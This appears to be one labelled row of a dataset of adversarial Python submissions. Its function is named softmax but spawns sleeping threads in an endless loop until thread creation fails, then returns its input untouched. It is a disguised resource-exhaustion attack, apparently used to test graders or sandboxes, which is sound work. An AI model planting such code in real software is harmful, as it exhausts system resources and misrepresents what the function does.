# row: 76
# attack: starts threads without end
# loses: softmax
# status: any
import threading
import time


def softmax(Z):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
        except RuntimeError:
            return Z
